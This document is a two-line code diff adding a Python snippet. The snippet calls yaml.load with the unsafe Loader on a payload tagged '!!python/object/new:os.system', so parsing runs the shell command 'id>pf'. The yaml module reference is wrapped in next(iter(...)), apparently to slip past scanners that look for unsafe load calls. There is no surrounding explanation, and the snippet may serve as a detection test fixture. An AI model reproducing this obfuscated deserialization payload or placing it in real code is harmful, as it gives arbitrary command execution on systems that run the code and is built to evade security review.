@@ -1,0 +1,2 @@
+import yaml
+next(iter((yaml,))).load('!!python/object/new:os.system [id>pf]', Loader=next(iter((yaml,))).Loader)
